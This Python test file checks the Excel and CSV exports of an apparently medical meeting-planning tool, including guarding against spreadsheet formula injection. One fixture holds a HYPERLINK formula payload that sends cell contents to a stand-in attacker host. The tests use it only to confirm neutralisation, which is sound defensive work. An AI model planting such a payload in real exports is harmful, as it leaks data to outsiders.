"""Excel and CSV exports: typed cells, frozen header, fitted columns, formula-safe CSV."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from sqlalchemy import select

from db import models as m
from mdo_planner.launcher import main
from mdo_planner.outputs.tables import Sheet, csv_text, guard_formula, xlsx_bytes
from mdo_planner.services.base import open_database
from tests import meeting_factory as mf

INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"klik")'


@pytest.fixture
def url(tmp_path: Path) -> str:
    db = open_database(f"sqlite:///{tmp_path / 'x.sqlite'}")
    mf.build(db)
    with db.session() as s:
        c3 = s.scalar(select(m.Case).where(m.Case.code == "C3"))
        c3.question = INJECTION
        c3.presenting_physician = "+31 20 555 0000"
    db.dispose()
    return db.url


def test_guard_prefixes_every_formula_start() -> None:
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1"):
        assert guard_formula(text) == "'" + text
    assert guard_formula("Dr. A") == "Dr. A" and guard_formula("") == ""


def test_worklist_xlsx_has_typed_cells_frozen_header_and_fitted_widths(
    url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "worklist.xlsx"
    assert main(["worklist", "--status", "planned", "--out", str(out), "--db", url]) == 0
    assert "wrote 4 case(s) (status planned)" in capsys.readouterr().out
    book = openpyxl.load_workbook(out)
    ws = book["Worklist"]
    assert "status planned" in ws["A1"].value  # the filter the export was made with
    header = [c.value for c in ws[2]]
    assert header[:3] == ["case", "patient", "hospital"]
    assert ws.freeze_panes == "A3"
    rows = [[c.value for c in r] for r in ws.iter_rows(min_row=3)]
    assert sorted(r[0] for r in rows) == ["C1", "C2", "C3", "C4"]
    ready = header.index("ready")
    assert all(isinstance(r[ready], dt.datetime) for r in rows)  # real dates, not text
    assert ws.cell(row=3, column=ready + 1).number_format == "DD-MM-YYYY"
    urgent = header.index("urgent")
    assert {r[urgent] for r in rows} == {True, False}
    question = header.index("question")
    c3 = next(r for r in rows if r[0] == "C3")
    assert c3[question] == INJECTION  # kept as text ...
    cell = ws.cell(row=3 + rows.index(c3), column=question + 1)
    assert cell.data_type == "s"  # ... never stored as a formula
    widths = {k: v.width for k, v in ws.column_dimensions.items()}
    assert widths["A"] >= len("C1") + 2 and widths["O"] <= 62


def test_worklist_csv_neutralises_formulas(url: str, tmp_path: Path) -> None:
    out = tmp_path / "worklist.csv"
    assert main(["worklist", "--out", str(out), "--db", url]) == 0
    text = out.read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    c3 = next(r for r in rows if r[0] == "C3")
    assert "'" + INJECTION in c3 and INJECTION not in [c for c in c3]
    assert "'+31 20 555 0000" in c3
    assert not any(c.startswith(("=", "+", "-", "@")) for r in rows for c in r)


def test_agenda_and_sessions_as_tables(
    url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "s1.xlsx"
    assert main(["agenda", "--session", "S1", "--out", str(out), "--db", url]) == 0
    ws = openpyxl.load_workbook(out).active
    header = [c.value for c in ws[2]]
    rows = [[c.value for c in r] for r in ws.iter_rows(min_row=3)]
    assert [r[header.index("case")] for r in rows][:4] == ["C2", "C1", "C3", "C4"]
    assert isinstance(rows[0][header.index("minutes")], int)
    assert isinstance(rows[0][header.index("start")], dt.time)
    held = dt.date.today() - dt.timedelta(days=mf.HELD)
    week = tmp_path / "week.xlsx"
    assert (
        main(
            [
                "agenda",
                "--from",
                (held - dt.timedelta(days=2)).isoformat(),
                "--to",
                held.isoformat(),
                "--out",
                str(week),
                "--db",
                url,
            ]
        )
        == 0
    )
    book = openpyxl.load_workbook(week)
    assert book.sheetnames == ["Sessions", "Agendas"]
    sessions = [[c.value for c in r] for r in book["Sessions"].iter_rows(min_row=3)]
    assert sorted(r[0] for r in sessions) == ["S1", "S3"]
    assert (
        main(
            [
                "agenda",
                "--from",
                held.isoformat(),
                "--to",
                held.isoformat(),
                "--out",
                str(tmp_path / "w.csv"),
                "--db",
                url,
            ]
        )
        == 2
    )
    assert "write it as .xlsx" in capsys.readouterr().err


def test_quality_report_xlsx_has_frozen_headers() -> None:
    from mdo_planner.outputs.quality_export import FIGURE_HEADER

    data = xlsx_bytes([Sheet("Figures", FIGURE_HEADER, [["all", 3, 66.7]], notes=("n",))])
    ws = openpyxl.load_workbook(io.BytesIO(data))["Figures"]
    assert ws.freeze_panes == "A2" and ws["C2"].value == pytest.approx(66.7)
    assert ws["A4"].value == "n" and ws.column_dimensions["A"].width < 20


def test_csv_text_writes_dates_iso_and_booleans_as_words() -> None:
    rows: list[list[Any]] = [[dt.date(2027, 1, 31), True, None, 4.34]]
    text = csv_text(Sheet("t", ["d", "b", "n", "f"], rows))
    assert text.splitlines()[1] == "2027-01-31;yes;;4.3"
